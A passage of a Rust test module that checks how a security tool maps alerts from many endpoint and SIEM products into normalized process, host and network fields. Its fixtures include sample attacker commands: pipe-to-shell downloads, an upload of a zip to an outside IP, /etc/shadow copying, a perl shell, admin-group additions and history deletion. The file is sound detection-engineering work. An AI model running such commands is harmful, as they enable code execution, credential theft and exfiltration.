            "Command": "/bin/bash", "Parent Command": "/usr/bin/less /var/log/a.log", "Grandparent Command": "sudo /usr/bin/less /var/log/a.log",
            "UTF8(payload)": "<14>Nov 12 18:50:02 r1 audispd: type=SYSCALL msg=audit(1.1:5): syscall=59 ppid=3 pid=4 auid=1001 uid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" type=EXECVE msg=audit(1.1:5): argc=3 a0=\"/bin/bash\" a1=\"-c\" a2=\"/bin/bash\""});
        let a = from_json(qr, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c /bin/bash");
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "/usr/bin/less /var/log/a.log"
        );
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "sudo /usr/bin/less /var/log/a.log"
        );
        // Uptycs' alert API: `asset` beside the rule's `code`, `child_processes` as strings.
        let up = json!({"alertId": "a3", "code": "CREDENTIAL_ACCESS_SHADOW_READ", "asset": {"hostName": "db-1"},
            "metadata": {"pid": 9, "path": "/usr/bin/bash", "cmdline": "bash /dev/shm/.c.sh", "uid": 0,
                "child_processes": ["cp /etc/shadow /dev/shm/.s", "unshadow /etc/passwd /dev/shm/.s"]}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(get(&a, "host.name"), "db-1");
        assert!(get(&a, "process.command_line").contains("unshadow /etc/passwd"));
    }

    #[test]
    fn session_25_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Google SecOps UDM: the pipeline's other members under `about`, in the order they
        // started, join the judged command as branches.
        let udm = json!({"metadata": {"eventType": "PROCESS_LAUNCH", "id": "u1"},
            "principal": {"hostname": "h", "process": {"pid": "10", "commandLine": "-bash", "file": {"fullPath": "/usr/bin/bash"}}},
            "target": {"process": {"pid": "13", "commandLine": "bash", "file": {"fullPath": "/usr/bin/bash"}}},
            "about": [{"process": {"pid": "12", "commandLine": "base64 -d"}},
                      {"process": {"pid": "11", "commandLine": "echo Y3VybCBodHRwOi8veC95IHwgc2g="}}]});
        let a = from_json(udm, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "bash\necho Y3VybCBodHRwOi8veC95IHwgc2g=\nbase64 -d"
        );
        // CrowdStrike streamed detection: the process's outbound connection.
        let cs = json!({"metadata": {"eventType": "DetectionSummaryEvent"},
            "event": {"ComputerName": "w", "UserName": "u", "FileName": "python3", "FilePath": "/usr/bin",
                "CommandLine": "python3 k.py", "DetectId": "ldt:1",
                "NetworkAccesses": [
                    {"RemoteAddress": "10.0.0.9", "RemotePort": 5000, "ConnectionDirection": 1},
                    {"RemoteAddress": "185.196.10.77", "RemotePort": 8443, "ConnectionDirection": 0}]}});
        let a = from_json(cs, "x").unwrap();
        assert_eq!(get(&a, "destination.ip"), "185.196.10.77");
        assert_eq!(a.doc["destination"]["port"], 8443);
        // Any shape: a shell's `cd DIR && CMD` that started the process gives its working
        // directory, only when CMD is the process's own command.
        let ecs = json!({"process": {"command_line": "python3 kworker.py", "executable": "/usr/bin/python3",
            "parent": {"command_line": "/bin/sh -c cd /dev/shm/.x/ && python3 kworker.py >/dev/null 2>&1"}}});
        let a = from_json(ecs, "x").unwrap();
        assert_eq!(get(&a, "process.working_directory"), "/dev/shm/.x");
        let other = json!({"process": {"command_line": "python3 other.py", "executable": "/usr/bin/python3",
            "parent": {"command_line": "/bin/sh -c cd /dev/shm/.x && python3 kworker.py"}}});
        let a = from_json(other, "x").unwrap();
        assert!(get_path(&a.doc, "process.working_directory").is_none());
        // Santa's execution: an ad hoc signature has no identity behind it.
        let santa = json!({"machine_id": "M1", "event_time": "2026-01-06T10:48:19Z",
            "execution": {"instigator": {"id": {"pid": 5}, "executable": {"path": "/bin/bash"}},
                "target": {"id": {"pid": 6}, "executable": {"path": "/Users/k/Downloads/T/bin/h"}},
                "args": ["./bin/h", "--install"], "decision": "DECISION_ALLOW",
                "signing_status": "SIGNING_STATUS_ADHOC"}});
        let a = from_json(santa, "x").unwrap();
        assert_eq!(a.doc["process"]["code_signature"]["trusted"], false);
        // SentinelOne threat: the originator's path and command line from
        // `originatorProcessInfo`.
        let s1 = json!({"id": "7", "threatInfo": {"threatId": "7", "threatName": "cmd.exe",
                "filePath": "\\Device\\HarddiskVolume4\\Windows\\System32\\cmd.exe",
                "originatorProcess": "AnyDesk.exe", "processUser": "D\\u",
                "maliciousProcessArguments": "/c \"tasklist /v | findstr /i sentinel\""},
            "agentRealtimeInfo": {"agentComputerName": "w", "agentOsType": "windows"},
            "originatorProcessInfo": {"path": "C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe",
                "commandLine": "\"C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe\" --control"}});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.executable"),
            "C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe"
        );
        assert!(get(&a, "process.parent.command_line").ends_with("--control"));
        // eslogger: a controlling terminal marks the command interactive.
        let es = json!({"event_type": 9, "time": "2025-11-03T16:15:19Z",
            "process": {"audit_token": {"pid": 7}, "executable": {"path": "/bin/zsh"}, "tty": {"path": "/dev/ttys002"}},
            "event": {"exec": {"target": {"audit_token": {"pid": 7, "euid": 502}, "executable": {"path": "/usr/bin/dscl"}},
                "args": ["dscl", ".", "-list", "/Users"]}}});
        let a = from_json(es, "x").unwrap();
        assert_eq!(a.doc["process"]["interactive"], true);
        // Cisco Secure Endpoint: a program under /usr/bin is not taken for Linux by its path
        // alone (dscl is macOS's).
        let amp = json!({"event_type": "Cloud IOC", "connector_guid": "c9",
            "computer": {"hostname": "MBP-1", "user": "root@MBP-1"},
            "file": {"file_name": "dscl", "file_path": "/usr/bin/dscl", "parent": {"file_name": "sh"}},
            "command_line": {"arguments": "dscl . -append /Groups/admin GroupMembership x"}});
        let a = from_json(amp, "x").unwrap();
        assert_eq!(get(&a, "host.os.type"), "macos");
        // Jamf Protect: a process match that carries its parent and grandparent beside it.
        let jp = json!({"input": {"host": {"hostname": "mbp"}, "match": {"event": {"pid": 9, "type": 1,
            "process": {"pid": 9, "ppid": 8, "path": "/usr/bin/curl", "args": ["curl", "-o", "/tmp/x.dmg", "https://h/x.dmg"], "uid": 0},
            "parentProcess": {"pid": 8, "path": "/bin/zsh", "args": ["/bin/zsh", "/Library/Application Support/JAMF/tmp/Install X", "/"]},
            "grandparentProcess": {"pid": 7, "path": "/usr/local/jamf/bin/jamf", "args": ["/usr/local/jamf/bin/jamf", "policy"]}},
            "facts": [{"name": "ScriptDownloadWithCurl"}]}, "related": {"users": [{"uid": 0, "name": "root"}], "processes": []}}});
        let a = from_json(jp, "x").unwrap();
        assert!(get(&a, "process.parent.command_line").contains("JAMF/tmp/Install X"));
        assert_eq!(
            get(&a, "process.parent.parent.executable"),
            "/usr/local/jamf/bin/jamf"
        );
        // Santa: a signature block with nothing in it and no code-signing flags is unsigned.
        let santa = json!({"machine_id": "M2", "event_time": "2025-10-16T08:03:29Z",
            "execution": {"instigator": {"id": {"pid": 5}, "executable": {"path": "/bin/bash"}},
                "target": {"id": {"pid": 6}, "is_platform_binary": false, "cs_flags": 0,
                    "code_signature": {"cdhash": "", "signing_id": "", "team_id": ""},
                    "executable": {"path": "/Users/j/Library/Application Support/Google/GoogleUpdater/GoogleUpdater"}},
                "args": ["GoogleUpdater", "--server"], "decision": "DECISION_ALLOW"}});
        let a = from_json(santa, "x").unwrap();
        assert_eq!(a.doc["process"]["code_signature"]["exists"], false);
        // Snoopy: the account the command ran as (`uid:root(0)/root(0)`), beside who signed in.
        let q = from_json(json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxOS @ j1",
            "payload": "<78>Dec  2 22:27:32 j1 snoopy[2291044]: [login:nb-admin ssh:(10.4.1.7 50412 10.6.1.4 22) sid:1 tty:/dev/pts/3 (0/root) uid:root(0)/root(0) cwd:/root]: bash -c id"}]}), "x").unwrap();
        assert_eq!(get(&q, "user.name"), "root");
        assert_eq!(get(&q, "user.id"), "0");
        assert_eq!(get(&q, "user.audit.name"), "nb-admin");
        // A syslog receiver's JSON with the line under `raw`: Trend Micro Deep Security's log
        // inspection as CEF, whose `msg` is the Snoopy line it matched in /var/log/secure.
        let ds = json!({"syslog_host": "dsm01", "raw": "<164>Dec 18 23:47:10 dsm01 CEF:0|Trend Micro|Deep Security Agent|20.0|1008521|Unix - Remote command execution|8|dvchost=b4 fname=/var/log/secure suser=dk msg=Dec 18 23:47:09 b4 snoopy[28812]: [login:dk ssh:(10.8.4.51 51022 10.30.4.18 22) uid:root(0)/root(0) cwd:/root]: ssh -o StrictHostKeyChecking\\=no root@10.30.4.21 id"});
        let a = from_json(ds, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "ssh -o StrictHostKeyChecking=no root@10.30.4.21 id"
        );
        assert_eq!(get(&a, "user.name"), "root");
        assert_eq!(get(&a, "host.name"), "b4");
        // Cybereason: a MalOp inbox model whose processes are flat `suspects`, each with the
        // commands it started under `children`; the MalOp keeps its own id.
        let cy = json!({"guidString": "11.-59", "simpleValues": {"elementDisplayName": {"values": ["cmd.exe"]}},
            "elementValues": {"affectedMachines": {"elementValues": [{"name": "ews03"}]}},
            "suspects": [{"elementType": "Process", "name": "cmd.exe", "commandLine": "cmd.exe /c \"E:\\u\\install.bat\"",
                "parentProcess": "explorer.exe", "ownerMachine": "ews03", "calculatedUser": "ews03\\administrator",
                "children": [{"name": "net.exe", "commandLine": "net localgroup administrators x /add"}]}]});
        let a = from_json(cy, "x").unwrap();
        assert_eq!(a.id, "11.-59");
        assert!(get(&a, "process.command_line").ends_with("net localgroup administrators x /add"));
        assert_eq!(get(&a, "host.name"), "ews03");
        // … and a C&C MalOp's connections beside its processes: the judged process's own
        // (`ownerProcess`), not another process's.
        let cnc = |owner: &str| {
            json!({"guid": "11.-77", "detectionTypes": ["Connection to malicious domain"],
                "machines": [{"displayName": "mbp-1", "osType": "OSX"}],
                "processes": [{"name": "python3.11", "commandLine": "/usr/bin/python3 /Users/t/Library/Application Support/x/h.py", "parentProcess": "launchd"}],
                "connections": [{"remoteAddress": "141.98.10.47", "remotePort": 443, "direction": "OUTGOING",
                    "domainName": "cdn-sync.duckdns.org", "ownerProcess": owner}]})
        };
        let a = from_json(cnc("python3.11"), "x").unwrap();
        assert_eq!(get(&a, "destination.domain"), "cdn-sync.duckdns.org");
        assert_eq!(a.doc["destination"]["port"], 443);
        let a = from_json(cnc("Some Helper"), "x").unwrap();
        assert!(get_path(&a.doc, "destination").is_none());
        // Uptycs: the script's recorded download URL as where the file came from.
        let up = json!({"id": "u1", "code": "SHELL_SCRIPT_EXEC_FROM_DOWNLOADS", "assetId": "a1", "assetHostName": "ws-1",
            "metadata": "{\"pid\": 4, \"path\": \"/usr/bin/bash\", \"cmdline\": \"bash /home/k/Downloads/i.sh -b\", \"script_download_url\": \"https://repo.anaconda.com/miniconda/i.sh\"}"});
        let a = from_json(up, "x").unwrap();
        assert_eq!(
            get(&a, "file.origin_url"),
            "https://repo.anaconda.com/miniconda/i.sh"
        );
        // Trend Workbench: an object path with no command line that is the process's own
        // program is the process's path, not a child it started.
        let tw = json!({"id": "WB-9", "workbenchLink": "https://x", "impactScope": {"entities": []},
            "indicators": [
                {"id": 1, "type": "command_line", "field": "processCmd", "value": "cscript.exe //nologo \\\\d.internal\\NETLOGON\\m.vbs"},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "C:\\Windows\\system32\\cmd.exe /c logon.cmd"},
                {"id": 3, "type": "fullpath", "field": "objectFilePath", "value": "C:\\Windows\\System32\\cscript.exe"}]});
        let a = from_json(tw, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("cscript.exe //nologo"));
        assert_eq!(
            get(&a, "process.executable"),
            "C:\\Windows\\System32\\cscript.exe"
        );
        assert!(get(&a, "process.parent.command_line").contains("logon.cmd"));
    }

    #[test]
    fn session_26_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Trend Workbench: the acting process's command line names its program without the
        // extension (`PowerShell -Enc …` under WinRM); the object path is still its own program.
        let tw = json!({"id": "WB-10", "workbenchLink": "https://x", "impactScope": {"entities": []},
            "indicators": [
                {"id": 1, "type": "command_line", "field": "processCmd", "value": "PowerShell -NoProfile -EncodedCommand ZQBjAGgAbwA="},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "C:\\Windows\\system32\\WinrsHost.exe -Embedding"},
                {"id": 3, "type": "fullpath", "field": "objectFilePath", "value": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}]});
        let a = from_json(tw, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("PowerShell -NoProfile"));
        assert!(get(&a, "process.executable").ends_with("\\powershell.exe"));
        assert!(get(&a, "process.parent.command_line").contains("WinrsHost.exe"));
        // Another program's path beside it is still the process it started.
        let child = json!({"id": "WB-11", "workbenchLink": "https://x", "impactScope": {"entities": []},
            "indicators": [
                {"id": 1, "type": "command_line", "field": "processCmd", "value": "PowerShell -NoProfile -c x"},
                {"id": 2, "type": "fullpath", "field": "objectFilePath", "value": "C:\\Windows\\System32\\certutil.exe"}]});
        let a = from_json(child, "x").unwrap();
        assert!(get(&a, "process.executable").ends_with("\\certutil.exe"));
        assert!(get(&a, "process.parent.command_line").starts_with("PowerShell"));
        // CrowdStrike Detects API: a detection whose behaviours are different processes is one
        // alert per process, each with its own id; repeated behaviours of one process are one.
        let det = json!({"detection_id": "ldt:a:1", "device": {"hostname": "ws"},
            "behaviors": [
                {"behavior_id": "10", "filename": "wscript.exe", "cmdline": "wscript.exe a.js"},
                {"behavior_id": "11", "filename": "wscript.exe", "cmdline": "wscript.exe a.js"},
                {"behavior_id": "12", "filename": "powershell.exe", "cmdline": "powershell -c x",
                 "parent_details": {"parent_cmdline": "wscript.exe a.js"}}]});
        let all = from_json_expanded(det, "x");
        assert_eq!(all.len(), 2);
        let second = all[1].as_ref().unwrap();
        assert_eq!(get(second, "process.command_line"), "powershell -c x");
        assert_eq!(second.id, "ldt:a:1:behavior:12");
        assert!(get_path(&second.doc, "crowdstrike.riposte_behaviour_of_detection").is_none());
        let one = json!({"detection_id": "ldt:a:2", "device": {"hostname": "ws"},
            "behaviors": [{"behavior_id": "10", "filename": "wscript.exe", "cmdline": "wscript.exe a.js"}]});
        let all = from_json_expanded(one, "x");
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].as_ref().unwrap().id, "ldt:a:2");
        // LimaCharlie: a file event's FILE_PATH is the file touched, not the program.
        let lc = json!({"detect": {"event": {"FILE_PATH": "/home/k/.mozilla/firefox/p/logins.json", "PROCESS_ID": 6},
            "routing": {"event_type": "FILE_TYPE_ACCESS", "hostname": "h", "plat": 0x20000000}}, "cat": "c"});
        let a = from_json(lc, "x").unwrap();
        assert_eq!(get(&a, "file.name"), "logins.json");
        assert!(get_path(&a.doc, "process.executable").is_none());
        // Wazuh auditd: a file watch's syscall has no EXECVE; the process title names the
        // command, from the decoder's field or the full log's hex PROCTITLE record.
        let wz = json!({"agent": {"name": "app"}, "rule": {"id": "1"},
            "full_log": "type=SYSCALL msg=audit(1.2:88): syscall=257 uid=0 comm=\"borg\" exe=\"/usr/bin/python3.10\" type=PROCTITLE msg=audit(1.2:88): proctitle=2F7573722F62696E2F626F7267006372656174650064",
            "data": {"audit": {"id": "88", "uid": "0", "command": "borg", "exe": "/usr/bin/python3.10"}}});
        let a = from_json(wz, "x").unwrap();
        assert_eq!(
            a.doc["process"]["args"],
            json!(["/usr/bin/borg", "create", "d"])
        );
        // Cybereason: a MalOp whose `processes` are investigation-view elements
        // (`simpleValues`, `elementValues`) is read from those, under the MalOp's own id.
        let malop = json!({"guid": "11.-63", "detectionTypes": ["Reverse shell"],
            "machines": [{"displayName": "mbp-1", "osType": "OSX"}],
            "processes": [{"guid": "p1", "elementDisplayName": "perl",
                "simpleValues": {"elementDisplayName": {"values": ["perl"]},
                    "commandLine": {"values": ["perl -e 'exec(\"/bin/sh -i\")'"]},
                    "imageFile.correctedPath": {"values": ["/usr/bin/perl"]}},
                "elementValues": {"parentProcess": {"elementValues": [{"name": "sh", "simpleValues": {"commandLine": {"values": ["sh -c node setup.js"]}}}]}}}]});
        let a = from_json(malop, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("perl -e"));
        assert_eq!(a.id, "11.-63");
        // A Log Analytics custom table whose arrays were flattened into numbered columns.
        let la = json!({"TenantId": "t", "TimeGenerated": "2025-10-28T08:03:44Z", "Type": "jamfprotect_CL",
            "input_eventType_s": "GPProcessEvent", "input_host_hostname_s": "MBA-1", "input_match_event_pid_d": 57,
            "input_related_processes_0_pid_d": 57, "input_related_processes_0_ppid_d": 50, "input_related_processes_0_path_s": "/bin/zsh",
            "input_related_processes_0_args_s": "[\"/bin/zsh\", \"/Library/Application Support/JAMF/tmp/x.sh\"]",
            "input_related_processes_1_pid_d": 50, "input_related_processes_1_path_s": "/usr/local/jamf/bin/jamf"});
        let a = from_json(la, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/bin/zsh");
        assert_eq!(
            get(&a, "process.parent.executable"),
            "/usr/local/jamf/bin/jamf"
        );
        // Santa through Filebeat: the shipper's `santa.args` is the command line the ECS
        // process lacks.
        let sf = json!({"event": {"dataset": "santa.log", "category": ["process"]}, "host": {"name": "mbp"},
            "process": {"pid": 3, "executable": "/bin/bash", "name": "bash"},
            "santa": {"action": "EXEC", "path": "/bin/bash", "args": "/bin/bash -c echo hi"}});
        let a = from_json(sf, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c echo hi");
    }

    #[test]
    fn session_27_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Santa through Filebeat with the santad line kept whole in `message`: its `args=` is
        // the command line the ECS process lacks.
        let sm = json!({"event": {"module": "santa", "dataset": "santa.log"}, "host": {"name": "mbp"},
            "process": {"pid": 7, "executable": "/bin/bash"},
            "message": "[2025-12-02T16:41:07Z] I santad: action=EXEC|decision=ALLOW|reason=BINARY|pid=7|ppid=1|uid=501|user=b|path=/bin/bash|args=/bin/bash -c echo hi"});
        let a = from_json(sm, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c echo hi");
        // A process event with no OS named, whose program only macOS has (`security`): macOS.
        let mac = json!({"process": {"executable": "/usr/bin/security", "command_line": "security find-generic-password -s x -w",
            "parent": {"executable": "/bin/zsh"}}, "host": {"name": "m"}});
        let a = from_json(mac, "x").unwrap();
        assert_eq!(get(&a, "host.os.type"), "macos");
        let lin = json!({"process": {"executable": "/usr/bin/curl", "command_line": "curl -s x",
            "parent": {"executable": "/bin/bash"}}, "host": {"name": "l"}});
        assert_eq!(get(&from_json(lin, "x").unwrap(), "host.os.type"), "linux");
        // Uptycs: an ancestor list that starts above the row's own parent (its first pid is
        // not the `ppid`) starts at the grandparent; the row's parent columns are the parent.
        // A `user` column that names the account is the user.
        let up = json!({"id": "u-1", "assetId": "a-1", "assetHostName": "etl", "code": "C",
            "metadata": {"pid": 30, "ppid": 20, "path": "/usr/bin/curl", "cmdline": "curl -o /data/x https://e.org/x",
                "parent": "python3", "parent_path": "/opt/gis/venv/bin/python3", "parent_cmdline": "python /opt/gis/etl/sync.py",
                "user": "gisetl", "uid": 1104,
                "ancestor_list": "[{\"pid\":10,\"path\":\"/usr/bin/bash\",\"cmdline\":\"/bin/sh -c /opt/gis/etl/run.sh\"},{\"pid\":1,\"path\":\"/usr/sbin/crond\",\"cmdline\":\"crond -n\"}]"}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.executable"),
            "/opt/gis/venv/bin/python3"
        );
        assert_eq!(get(&a, "process.parent.parent.executable"), "/usr/bin/bash");
        assert_eq!(
            get(&a, "process.parent.parent.parent.executable"),
            "/usr/sbin/crond"
        );
        assert_eq!(get(&a, "user.name"), "gisetl");
        // …and one whose first entry is the parent keeps it there.
        let up2 = json!({"id": "u-2", "assetId": "a-1", "assetHostName": "etl", "code": "C",
            "metadata": {"pid": 30, "ppid": 20, "path": "/usr/bin/curl", "cmdline": "curl x", "uid": 0,
                "parent_path": "/usr/bin/bash",
                "ancestor_list": [{"pid": 20, "path": "/usr/bin/bash", "cmdline": "bash /opt/a.sh"}, {"pid": 1, "path": "/usr/sbin/crond"}]}});
        let a = from_json(up2, "x").unwrap();
        assert_eq!(get(&a, "process.parent.command_line"), "bash /opt/a.sh");
        assert_eq!(
            get(&a, "process.parent.parent.executable"),
            "/usr/sbin/crond"
        );
        assert_eq!(get(&a, "user.name"), "root");
        // Falco: the ancestors past the grandparent by name (a build step's buildkitd).
        let fa = json!({"output": "x", "priority": "Warning", "rule": "Delete or rename shell history", "time": "2025-10-21T11:42:17Z",
            "hostname": "ci", "source": "syscall",
            "output_fields": {"proc.cmdline": "rm -f /root/.bash_history", "proc.exepath": "/usr/bin/rm", "proc.pname": "sh",
                "proc.aname[2]": "runc", "proc.aname[3]": "buildkitd", "proc.aname[4]": "containerd-shim"}});
        let a = from_json(fa, "x").unwrap();
        assert_eq!(get(&a, "process.parent.parent.name"), "runc");
        assert_eq!(get(&a, "process.parent.parent.parent.name"), "buildkitd");
        assert_eq!(
            get(&a, "process.parent.parent.parent.parent.name"),
            "containerd-shim"
        );
        // Cortex XDR: the OS-level actor between the actor and the causality root is the
        // parent; the file the action wrote and the remote end it reached are kept.
        let cx = json!({"alert_id": "203117", "host_name": "mac-1", "agent_os_type": "AGENT_OS_MAC",
            "actor_process_image_path": "/bin/bash", "actor_process_command_line": "bash",
            "os_actor_process_image_name": "sh", "os_actor_process_command_line": "/bin/sh -c curl -fsSL https://x.net/a.sh | bash",
            "causality_actor_process_image_path": "/usr/local/jamf/bin/jamf", "causality_actor_process_command_line": "/usr/local/jamf/bin/jamf policy",
            "action_file_path": "/Library/LaunchDaemons/com.x.plist", "action_remote_ip": "45.141.87.203", "action_remote_port": 443,
            "action_external_hostname": "x.net"});
        let a = from_json(cx, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "/bin/sh -c curl -fsSL https://x.net/a.sh | bash"
        );
        assert_eq!(
            get(&a, "process.parent.parent.executable"),
            "/usr/local/jamf/bin/jamf"
        );
        assert_eq!(get(&a, "file.path"), "/Library/LaunchDaemons/com.x.plist");
        assert_eq!(get(&a, "destination.domain"), "x.net");
        assert_eq!(a.doc["destination"]["port"], json!(443));
        // Splunk: a correlation search's joined grandparent.
        let sp = json!({"search_name": "Endpoint - x - Rule", "rule_name": "x", "dest": "ws-4",
            "process": "schtasks /create /tn x", "process_name": "schtasks.exe",
            "parent_process": "cmd.exe /c schtasks", "parent_process_name": "cmd.exe",
            "grandparent_process_name": "fodhelper.exe", "grandparent_process_path": "C:\\Windows\\System32\\fodhelper.exe"});
        let a = from_json(sp, "x").unwrap();
        assert_eq!(get(&a, "process.parent.parent.name"), "fodhelper.exe");
        assert!(get(&a, "process.parent.parent.executable").ends_with("fodhelper.exe"));
    }

    #[test]
    fn session_28_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // A SentinelOne threat's process tree that goes on past the threat's own file: what it
        // started follows its command line as branches.
        let s1 = json!({"threatInfo": {"threatId": "t-1", "filePath": "/Volumes/V/V.app/Contents/MacOS/V", "classification": "Infostealer"},
            "agentRealtimeInfo": {"agentComputerName": "mbp", "agentOsType": "macos"},
            "processTree": [{"name": "V", "cmdline": "/Volumes/V/V.app/Contents/MacOS/V"},
                {"name": "osascript", "cmdline": "osascript -e 'display dialog \"x\" with hidden answer'"},
                {"name": "sh", "cmdline": "sh -c curl -X POST --data-binary @/tmp/o.zip http://198.51.100.9/j"}]});
        let a = from_json(s1, "x").unwrap();
        let cmd = get(&a, "process.command_line");
        assert!(
            cmd.starts_with("/Volumes/V/V.app/Contents/MacOS/V\n"),
            "{cmd}"
        );
        assert!(
            cmd.contains("with hidden answer") && cmd.ends_with("http://198.51.100.9/j"),
            "{cmd}"
        );
        // An osquery query that joins the grandparent too.
        let oq = json!({"name": "pack_x", "hostIdentifier": "b-1", "calendarTime": "Thu Nov  6 10:12:44 2025 UTC", "action": "added",
            "columns": {"path": "/usr/bin/dash", "cmdline": "sh -s", "parent_cmdline": "/bin/bash -e /tmp/script_1.sh",
                "grandparent_path": "/usr/sbin/sshd", "grandparent_cmdline": "sshd: packer@notty"}});
        let a = from_json(oq, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "sshd: packer@notty"
        );
        assert_eq!(get(&a, "process.parent.parent.name"), "sshd");
        // A document no reader knows whose only field lists rows: each row is an alert.
        let rows = json!({"santa_log": [
            {"action": "EXEC", "path": "/Users/u/Downloads/X.app/Contents/MacOS/X", "args": "X", "user": "u", "machine_id": "m"},
            {"action": "EXEC", "path": "/usr/bin/osascript", "args": "osascript -e display dialog", "user": "u", "machine_id": "m"}]});
        let got = from_json_expanded(rows, "line 1");
        assert_eq!(got.len(), 2);
        assert_eq!(
            get(got[1].as_ref().unwrap(), "process.executable"),
            "/usr/bin/osascript"
        );
        assert_eq!(got[1].as_ref().unwrap().position, "line 1, entry 2");
        // … but a known shape with one list field stays one alert (QRadar's events).
        let q = json!({"events": [{"qid": 1, "logSourceName": "LinuxServer @ h1", "startTime": "2025-04-05T09:11:00Z",
            "payload": "<85>Apr  5 09:11:00 h1 sudo: u : TTY=pts/2 ; PWD=/home/u ; USER=root ; COMMAND=/usr/bin/id"}]});
        assert_eq!(from_json_expanded(q, "x").len(), 1);
        // QRadar rows listed newest first are read in time order: the newest is the alert's
        // process, and the log source's name (`logSourceName`) names the host.
        let q = json!({"offenseId": 1, "events": [
            {"qid": 2, "logSourceName": "LinuxServer @ app-2", "startTime": "2025-04-05T09:11:00Z",
             "payload": "<85>Apr  5 09:11:00 app-2 sudo: u : TTY=pts/2 ; PWD=/home/u ; USER=root ; COMMAND=/usr/bin/python3 -c x"},
            {"qid": 3, "logSourceName": "LinuxServer @ app-2", "startTime": "2025-04-05T08:58:41Z",
             "payload": "<86>Apr  5 08:58:41 app-2 sshd[5]: Accepted password for u from 203.0.113.7 port 6 ssh2"}]});
        let a = from_json(q, "x").unwrap();
        assert_eq!(get(&a, "process.parent.name"), "sudo");
        assert!(get(&a, "process.command_line").starts_with("/usr/bin/python3 -c x"));
        assert_eq!(get(&a, "host.name"), "app-2");
        // A santad line whose arguments hold `|` keeps them whole.
        let sl = json!({"message": "[2025-09-09T13:52:47Z] I santad: action=EXEC|decision=ALLOW|reason=BINARY|pid=7|ppid=6|uid=501|user=d|path=/bin/sh|args=sh -c node x.js || (curl -sL https://e.dev/c.sh | sh)|machineid=M"});
        let a = from_json(sl, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "sh -c node x.js || (curl -sL https://e.dev/c.sh | sh)"
        );
        // Sophos Central: the detection's children, connection, launch item and techniques.
        let so = json!({"id": "s-1", "type": "Event::Endpoint::Threat::BehaviorDetected", "tenant": {"id": "t"},
            "managedAgent": {"name": "mbp-1"}, "threat": "Mac/Susp-X",
            "data": {"process": {"path": "/bin/bash", "cmdline": "/bin/bash /Users/c/.local/bin/u.sh", "parentPath": "/sbin/launchd"},
                "persistence": {"plist": "/Users/c/Library/LaunchAgents/com.apple.u.plist"},
                "children": [{"cmdline": "curl -s https://e.icu/c.sh -o /Users/c/.local/bin/.c.sh"}, {"cmdline": "osascript -e the clipboard as text"}],
                "network": [{"remoteHost": "e.icu", "remoteIp": "203.0.113.62", "remotePort": 443}], "mitre": ["T1059.004", "T1115"]}});
        let a = from_json(so, "x").unwrap();
        let cmd = get(&a, "process.command_line");
        assert!(
            cmd.starts_with("/bin/bash /Users/c/.local/bin/u.sh\n")
                && cmd.ends_with("osascript -e the clipboard as text"),
            "{cmd}"
        );
        assert_eq!(get(&a, "destination.ip"), "203.0.113.62");
        assert_eq!(get(&a, "destination.domain"), "e.icu");
        assert_eq!(
            get(&a, "file.path"),
            "/Users/c/Library/LaunchAgents/com.apple.u.plist"
        );
        assert_eq!(
            a.doc["threat"]["technique"]["id"],
            json!(["T1059.004", "T1115"])
        );
        // Jamf Protect with the process beside the event (`match.process`, its `parent` and
        // `grandparent` nested).
        let jp = json!({"caid": "c", "host": {"hostname": "mba"}, "input": {"eventType": "GPProcessEvent", "match": {
            "event": {"type": 1, "timestamp": 1.0},
            "process": {"pid": 3, "ppid": 2, "uid": 0, "path": "/usr/bin/dscl", "args": ["dscl", ".", "-append", "/Groups/admin", "GroupMembership", "x"],
                "parent": {"pid": 2, "path": "/usr/bin/sudo", "args": ["sudo", "-S", "dscl"]},
                "grandparent": {"pid": 1, "path": "/bin/bash", "args": ["/bin/bash", "/Users/m/Library/Caches/r.sh"]}}}}});
        let a = from_json(jp, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "dscl");
        assert_eq!(get(&a, "process.parent.name"), "sudo");
        assert_eq!(get(&a, "process.parent.parent.executable"), "/bin/bash");
        // Jamf Protect: an analytic's match with no pid judges the first related process with
        // arguments; the others outside its ancestry follow as branches.
        let jp = json!({"caid": "c", "input": {"host": {"hostname": "mba"}, "match": {"event": {"type": 1}, "facts": [{"name": "X"}]},
            "related": {"processes": [
                {"pid": 5, "ppid": 4, "path": "/usr/bin/osascript", "args": ["osascript", "-e", "display dialog"]},
                {"pid": 4, "path": "/Volumes/V/V.app/Contents/MacOS/V"},
                {"pid": 6, "ppid": 4, "path": "/usr/bin/dscl", "args": ["dscl", "/Local/Default", "-authonly", "u", "x"]}]}}});
